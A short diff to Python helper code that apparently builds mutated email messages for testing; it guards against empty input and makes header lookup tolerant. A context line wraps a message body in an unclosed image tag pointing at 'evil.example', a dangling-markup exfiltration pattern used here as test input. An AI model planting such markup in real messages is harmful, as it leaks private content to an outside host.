@@ -95,13 +95,15 @@ def _at(raw: bytes, share: float) -> int:
 
 
 def _with(raw: bytes, share: float, change: Callable[[int], bytes]) -> bytes:
+    if not raw:
+        return raw
     at = min(_at(raw, share), len(raw) - 1)
     return raw[:at] + change(raw[at]) + raw[at + 1 :]
 
 
 def _wrapped(raw: bytes, kind: str) -> bytes:
     """The body of a message among others, under the message's own header."""
-    at = raw.lower().index(b"content-type:")
+    at = max(0, raw.lower().find(b"content-type:"))
     return raw[:at] + multipart(kind, html('<img src="http://evil.example/'), raw[at:], html('">'))
 
 
